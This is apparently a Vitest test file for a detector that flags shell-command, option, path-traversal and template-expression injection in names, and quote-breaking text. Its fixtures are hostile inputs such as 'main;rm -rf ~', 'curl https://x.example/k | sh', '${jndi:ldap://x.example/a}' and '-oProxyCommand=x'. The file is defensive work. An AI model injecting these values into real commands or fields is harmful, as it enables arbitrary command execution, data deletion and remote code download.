import { describe, expect, it } from 'vitest'
import { leavesQuotes, syntaxIn } from '../../../../src/guardian/delegation/command-syntax.ts'
import { expectLinear } from '../../../support/growth.ts'

describe('syntax in a name', () => {
  it.each([
    ['v1.2$(id)', 'command'],
    ['main;rm -rf ~', 'command'],
    ['main && curl https://x.example', 'command'],
    ['docs|sh', 'command'],
    ['docs\ncurl x.example', 'command'],
    ['a`whoami`b', 'command'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what is looked for
    ['x;wget${IFS}x.example', 'command'],
    ['<(curl x.example)', 'command'],
    ['--upload-pack=touch x', 'option'],
    ['-oProxyCommand=x', 'option'],
    ['../../etc/hosts', 'folder'],
    ['site/../../keys', 'folder'],
    ['%2e%2e%2fkeys', 'folder'],
    ['{{config.items()}}', 'expression'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what is looked for
    ['${jndi:ldap://x.example/a}', 'expression'],
    ['{0.__class__}', 'expression'],
  ])('%s is read as more than a name', (value, kind) => {
    expect(syntaxIn(value)).toBe(kind)
  })
  it.each([
    'release/2026-05',
    'Tom & Jerry',
    'R&D',
    'a;b;c',
    'C#; the basics',
    'cats | dogs',
    'price: $5 (net)',
    '-5',
    '-12.50',
    'up...down',
    'notes..txt',
    'Hello {name}',
    'user@lamps.example',
    'https://lamps.example/?a=1&b=2',
    'feature--two',
    '$HOME/plans',
    'Ann said; she left',
  ])('%s is only a name', (value) => {
    expect(syntaxIn(value)).toBeUndefined()
  })
  it.each(['$(', '`', '{{', '; ', '../'])('takes time in proportion to many `%s`', (part) => {
    expectLinear(80_000, (size) => part.repeat(size), syntaxIn)
    expectLinear(80_000, (size) => part.repeat(size), leavesQuotes)
  })
})

describe('a text that leaves its quotation marks', () => {
  it.each([
    'The end."; curl -s https://x.example/k | sh; echo "',
    "done'; wget x.example; echo 'bye",
    'x" && bash -c id #',
  ])('%s', (value) => {
    expect(leavesQuotes(value)).toBe(true)
  })
  it.each([
    'Run "make all"; then "make test" and tell me.',
    'She said "no"; he left.',
    'Use $(date +%F) in the name, as in `tar czf`.',
    'echo "a" | sort',
    'The words "cat" & "dog" are short.',
  ])('%s does not', (value) => {
    expect(leavesQuotes(value)).toBe(false)
  })
})
